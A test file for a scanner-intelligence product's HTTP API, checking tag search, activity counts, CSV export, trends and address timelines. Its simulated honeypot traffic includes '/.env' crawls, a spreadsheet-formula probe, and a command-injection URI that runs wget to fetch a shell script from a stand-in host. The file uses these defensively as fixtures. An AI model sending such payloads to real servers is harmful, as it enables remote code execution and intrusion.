import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { call, captureOf, counted, waitUntilIdle, upload, webVisit } from '../product/captures.ts'
import { noon } from '../product/noon.ts'
import { type Inside, openInside } from '../product/inside.ts'

/** Tags, their activity and trends, and the timelines of an address, over HTTP. */

let product: Inside
const { now, clock } = noon()
const hourMs = 3_600_000
const dayMs = 24 * hourMs
const worm = '198.18.7.1'
/** Carries a tag of the category worm and others whose intention nobody knows. */
const downloader = '198.18.9.1'
const others = Array.from({ length: 40 }, (_, at) => `198.18.8.${at + 1}`)

const env = (source: string, at: number) =>
  webVisit(source, { uri: '/.env', userAgent: 'curl/8.1' }, at, '203.0.113.9')

beforeAll(async () => {
  product = await openInside({}, {}, clock)
  // One address on two days of last week and since; forty more yesterday and the day before.
  const visits = [
    ...[1, 2, 8, 9].map((days) => env(worm, now - days * dayMs)),
    ...others.flatMap((source) => [env(source, now - dayMs), env(source, now - 2 * dayMs)]),
    env(worm, now - 60_000),
    webVisit(worm, { uri: '/=cmd', userAgent: '=evil' }, now - 50_000),
    webVisit(
      downloader,
      { uri: '/?cd%20/tmp;wget%20http://198.18.0.9/a.sh', userAgent: 'curl/8.1' },
      now - 40_000,
    ),
  ]
  for (const visit of visits) visit.sourcePort = 1024 + Math.floor(Math.random() * 60_000)
  await upload(product, captureOf(visits))
  await waitUntilIdle(product)
  await counted(product, (text) => text.includes('env-crawler'))
})
afterAll(async () => {
  await product?.close()
})

interface Row {
  slug: string
  name: string
  intention: string
  category: string
  ips_in_24h: number
  trace: number[]
}

describe('tags', () => {
  test('are found by a part of their name for completing queries, those that were seen first', async () => {
    const all = await call(product, '/api/tags/autocomplete', { key: null })
    const found = await call(product, '/api/tags/autocomplete?text=CRAWL', { key: null })
    const slugs = (body: Record<string, unknown>): string[] => (body.tags as Row[]).map(({ slug }) => slug)
    expect([all.status, found.status]).toEqual([200, 200])
    expect(slugs(found.body)).toContain('env-crawler')
    expect(slugs(all.body)).toEqual(expect.arrayContaining(slugs(found.body)))
    expect(slugs(found.body).filter((slug) => !slug.includes('crawl'))).toEqual([])
    for (const wrong of ['?text=', `?text=${'x'.repeat(101)}`, '?prefix=a'])
      expect((await call(product, `/api/tags/autocomplete${wrong}`, { key: null })).status, wrong).toBe(400)
  })

  test('are listed 25 a page with how many there are, and searched by words in any case', async () => {
    const { status, body } = await call(product, '/api/tags', { key: null })
    expect(status).toBe(200)
    const tags = body.tags as Row[]
    expect(tags.length).toBe(25)
    expect(body.total).toBeGreaterThan(200)
    expect(tags[0]?.ips_in_24h).toBeGreaterThanOrEqual(tags[1]?.ips_in_24h ?? 0)
    const found = await call(product, '/api/tags?search=ENV%20crawler')
    expect((found.body.tags as Row[])[0]).toMatchObject({ slug: 'env-crawler' })
    expect((found.body.tags as Row[])[0]?.trace.length).toBe(30)
    const seen = new Set<string>()
    const pages = body.pages as number
    for (let page = 1; page <= pages; page++)
      for (const { slug } of (await call(product, `/api/tags?sort=name&page=${page}`)).body.tags as Row[])
        seen.add(slug)
    expect(seen.size).toBe(body.total)
  })

  test('are searched by every word, however many', async () => {
    const many = Array.from({ length: 30 }, () => 'mirai').join(' ')
    const total = async (search: string) =>
      (await call(product, `/api/tags?search=${encodeURIComponent(search)}`)).body.total
    expect(await total(many)).toBe(await total('mirai'))
    expect(await total(`${many} nowhere`)).toBe(0)
  })

  test('keep the words of /api: other for unknown, others for worms', async () => {
    const { body } = await call(product, '/api/tags?items_per_page=100&category=others')
    const tags = body.tags as Row[]
    expect(tags.some(({ slug }) => slug === 'mirai')).toBe(true)
    expect(new Set(tags.map(({ category }) => category))).toEqual(new Set(['others']))
    const other = (await call(product, '/api/tags?intention=other')).body.tags as Row[]
    expect(new Set(other.map(({ intention }) => intention))).toEqual(new Set(['other']))
  })

  test('keep them inside answers about addresses too, one by one, in pages and in files; the public calls keep theirs', async () => {
    type Worded = { category: string; intention: string }
    const tagsOf = (record: unknown): Worded[] =>
      (record as { internet_scanner_intelligence: { tags: Worded[] } }).internet_scanner_intelligence.tags
    const words = (tags: Worded[]) => ({
      categories: new Set(tags.map(({ category }) => category)),
      intentions: new Set(tags.map(({ intention }) => intention)),
    })
    const query = `query=${downloader}`
    const { body: whole } = await call(product, `/api/ip/${downloader}`)
    const { body: page } = await call(product, `/api/ip/query?${query}`)
    const file = await call(product, `/api/ip/query?${query}&export_format=json`)
    for (const record of [whole, (page.data as unknown[])[0], (file.body.data as unknown[])[0]]) {
      const { categories, intentions } = words(tagsOf(record))
      expect([categories.has('others'), categories.has('worm')]).toEqual([true, false])
      expect([intentions.has('other'), intentions.has('unknown')]).toEqual([true, false])
    }
    const { verdict, activity } = whole as unknown as {
      verdict: { classification: string; reasons: Worded[] }
      activity: { rows: { intention: string | null }[] }
    }
    expect(verdict.classification).toBe('malicious')
    expect(words(verdict.reasons).categories.has('worm')).toBe(false)
    expect(words(verdict.reasons).intentions.has('unknown')).toBe(false)
    expect(new Set(activity.rows.map(({ intention }) => intention)).has('unknown')).toBe(false)
    for (const [path, of] of [
      [`/v3/ip/${downloader}`, (body: Record<string, unknown>) => body],
      [`/v3/gnql?${query}`, (body: Record<string, unknown>) => (body.data as unknown[])[0]],
    ] as const) {
      const { categories, intentions } = words(tagsOf(of((await call(product, path)).body)))
      expect([path, categories.has('worm'), intentions.has('unknown')]).toEqual([path, true, true])
    }
  })

  test('are found by id and by slug; nothing else is', async () => {
    const bySlug = await call(product, '/api/tags/mirai')
    expect(bySlug.body).toMatchObject({ slug: 'mirai', name: 'Mirai', category: 'others' })
    const byId = await call(product, `/api/tags/${String(bySlug.body.id)}`)
    expect(byId.body).toEqual(bySlug.body)
    for (const path of [
      '/api/tags/nope',
      '/v3/tags/nope',
      '/api/tags/nope/activity',
      '/api/tags/nope/export',
    ])
      expect([path, (await call(product, path)).status]).toEqual([path, 404])
  })

  test('refuse what is out of bounds, naming it', async () => {
    for (const path of [
      '/api/tags?page=0',
      '/api/tags?items_per_page=101',
      `/api/tags?search=${'a'.repeat(201)}`,
      '/api/tags/mirai/activity?days=91',
      '/api/tags/mirai/activity?granularity=5h',
      '/api/tags/mirai/export?format=xml',
      '/api/tags/trends?sort=best',
      '/v3/summary/tags?sort=active',
      '/v3/tags/mirai/activity?days=0',
    ])
      expect([path, (await call(product, path)).status]).toEqual([path, 400])
  })
})

interface ActivityBody {
  activity: Record<string, { timestamp: string; active_ips: number }[]>
  aggregations: { total_ips: number; classification: Record<string, number> }
  metadata: { granularity: string }
}

describe('activity of a tag', () => {
  test('counts different addresses: three days by the hour unless asked otherwise', async () => {
    const { body } = await call(product, '/api/tags/env-crawler/activity')
    const { activity, aggregations, metadata } = body as unknown as ActivityBody
    expect(metadata.granularity).toBe('1h')
    expect(aggregations.total_ips).toBe(41)
    expect(activity.suspicious?.length).toBeGreaterThan(48)
    expect(Math.max(...(activity.suspicious ?? []).map(({ active_ips }) => active_ips))).toBe(41)
    const daily = await call(product, '/v3/tags/env-crawler/activity?days=30&granularity=24h')
    const days = (daily.body as unknown as ActivityBody).activity.suspicious ?? []
    expect(days.length).toBe(30)
    expect(days.slice(-3).map(({ active_ips }) => active_ips)).toEqual([41, 41, 1])
  })

  test('exports every address once, and no cell a spreadsheet would run', async () => {
    const response = await fetch(new URL('/api/tags/env-crawler/export', product.url))
    expect(response.headers.get('content-type')).toContain('text/csv')
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="tag_env-crawler_\d{8}T\d{6}Z\.csv"$/,
    )
    const lines = (await response.text()).trimEnd().split('\r\n')
    expect(lines[0]).toBe('ip,classification,first_seen,last_seen,country,asn,organization')
    const rows = lines.slice(1)
    expect(rows.map((row) => row.split(',')[0]).sort()).toEqual([worm, ...others].sort())
    // Moments as every other export writes them.
    for (const row of rows) expect(row).toMatch(/^[^,]+,[^,]+(?:,20[-\d]{8}T[:\d]{8}Z){2},/)
  })
})

describe('trends', () => {
  test('name the tag that rose, from what to what', async () => {
    const { body } = await call(product, '/api/tags/trends')
    expect(body.method).toBe('trend/1')
    const rose = (
      body.tags as { slug: string; score: number; level: number; expected: number; total_ips: number }[]
    ).find(({ slug }) => slug === 'env-crawler')
    expect(rose).toMatchObject({ level: 41, expected: 1 })
    expect(rose?.score).toBeCloseTo(4.1, 9)
    const active = await call(product, '/api/tags/trends?sort=active&intention=suspicious')
    expect((active.body.tags as Row[]).map(({ slug }) => slug)).toContain('env-crawler')
  })

  test('and their public twin keep their shapes', async () => {
    const { body } = await call(product, '/v3/summary/tags?sort=trending')
    const tag = (body.tags as Record<string, unknown>[]).find(({ slug }) => slug === 'env-crawler')
    expect(Object.keys(tag ?? {}).sort()).toEqual([
      'category',
      'created_at',
      'cves',
      'id',
      'intention',
      'label',
      'name',
      'score',
      'slug',
      'total_ips',
    ])
    expect(tag?.label).toBe('ENV_CRAWLER')
    const list = await call(product, '/v3/tags?name=env%20craw')
    expect((list.body.tags as Row[]).map(({ slug }) => slug)).toEqual(['env-crawler'])
    expect((await call(product, '/v3/tags?cve=cve-2021-44228')).body.tags).not.toEqual([])
  })
})

describe('timelines of an address', () => {
  test('answer the same on both faces, newest first', async () => {
    const path = `/ips/${worm}/timeline?days=30&field=tag_ids&granularity=1d`
    const ours = await call(product, `/api/ip/${worm}/timeline?days=30&field=tag_ids&granularity=1d`)
    const twin = await call(product, `/v3/noise${path}`)
    expect(twin.body.results).toEqual(ours.body.results)
    const results = ours.body.results as { timestamp: string; data: number }[]
    expect(results.length).toBeGreaterThanOrEqual(5)
    expect(results.map(({ timestamp }) => timestamp)).toEqual(
      results
        .map(({ timestamp }) => timestamp)
        .toSorted()
        .reverse(),
    )
    for (const field of [
      'classification',
      'destination_port',
      'http_path',
      'http_user_agent',
      'source_asn',
      'source_rdns',
    ])
      expect((await call(product, `/v3/noise/ips/${worm}/timeline?field=${field}&days=2`)).status).toBe(200)
    expect((await call(product, `/v3/noise/ips/${worm}/timeline?granularity=25h`)).status).toBe(400)
  })

  test('take the labels of workspaces that clients know, and no others', async () => {
    const of = async (labels: string) =>
      (await call(product, `/v3/noise/ips/${worm}/timeline?workspace_labels=${labels}`)).status
    for (const good of ['greynoise', 'community,personal', 'greynoise,%20personal'])
      expect(await of(good), good).toBe(200)
    for (const bad of ['nobody', 'greynoise,nobody', 'greynoise,', '']) expect(await of(bad), bad).toBe(400)
  })

  test('daily and hourly summaries are walked by their cursor, each day once', async () => {
    const days: string[] = []
    let cursor = ''
    do {
      const { status, body } = await call(
        product,
        `/v3/noise/ips/${worm}/daily-summary?days=30&limit=2${cursor && `&cursor=${encodeURIComponent(cursor)}`}`,
      )
      expect(status).toBe(200)
      const { metadata, activity } = body as unknown as {
        metadata: { next_cursor: string; limit: number }
        activity: Record<string, unknown>[]
      }
      expect(activity.length).toBeLessThanOrEqual(2)
      days.push(...activity.map(({ timestamp }) => String(timestamp).slice(0, 10)))
      expect(activity[0]).toMatchObject({ classification: 'suspicious', spoofable: false })
      cursor = metadata.next_cursor
    } while (cursor)
    expect(days.length).toBe(5)
    expect(new Set(days).size).toBe(5)
    const { body } = await call(product, `/v3/noise/ips/${worm}/hourly-summary`)
    const [latest] = body.activity as { protocols: object[]; http_paths: string[]; tags: object[] }[]
    expect(latest?.protocols).toEqual([{ port: 80, transport_protocol: 'TCP', app_protocol: 'HTTP' }])
    expect(latest?.http_paths).toContain('/.env')
    expect(Object.keys(latest?.tags[0] ?? {})).toEqual(['name', 'category', 'intention', 'description'])
    expect((await call(product, `/v3/noise/ips/${worm}/hourly-summary?cursor=nonsense`)).status).toBe(400)
    const unseen = await call(product, '/v3/noise/ips/198.18.99.99/daily-summary')
    expect(unseen.body).toMatchObject({ activity: [], metadata: { next_cursor: '' } })
  })
})
